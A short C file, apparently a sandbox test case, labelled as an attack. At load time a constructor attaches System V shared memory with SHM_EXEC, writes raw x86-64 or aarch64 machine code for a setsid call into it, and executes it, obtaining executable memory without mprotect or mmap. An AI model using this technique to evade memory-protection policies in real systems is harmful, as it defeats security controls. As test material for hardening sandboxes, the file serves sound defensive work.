/* Attack: executable memory without mprotect or mmap: System V shared
 * memory attached with SHM_EXEC, a setsid system call written into it and
 * called (x86-64 and aarch64 machine code). */
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#ifndef SHM_EXEC
#define SHM_EXEC 0100000
#endif
__attribute__((constructor)) static void run_written_code(void)
{
    int (*get)(key_t, size_t, int) = (int (*)(key_t, size_t, int))attack_libc_function("shmget");
    void *(*attach)(int, const void *, int) =
        (void *(*)(int, const void *, int))attack_libc_function("shmat");
    if (!get || !attach) return;
    int id = get(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
    void *code = attach(id, NULL, SHM_EXEC);
    if (code == (void *)-1) return;
#if defined(__x86_64__)
    static const unsigned char setsid_call[] = {0xb8, 0x70, 0, 0, 0, 0x0f, 0x05, 0xc3};
#elif defined(__aarch64__)
    static const unsigned char setsid_call[] = {0xa8, 0x13, 0x80, 0xd2, 0x01, 0, 0, 0xd4,
                                                0xc0, 0x03, 0x5f, 0xd6};
#endif
    memcpy(code, setsid_call, sizeof setsid_call);
    ((int (*)(void))code)();
}
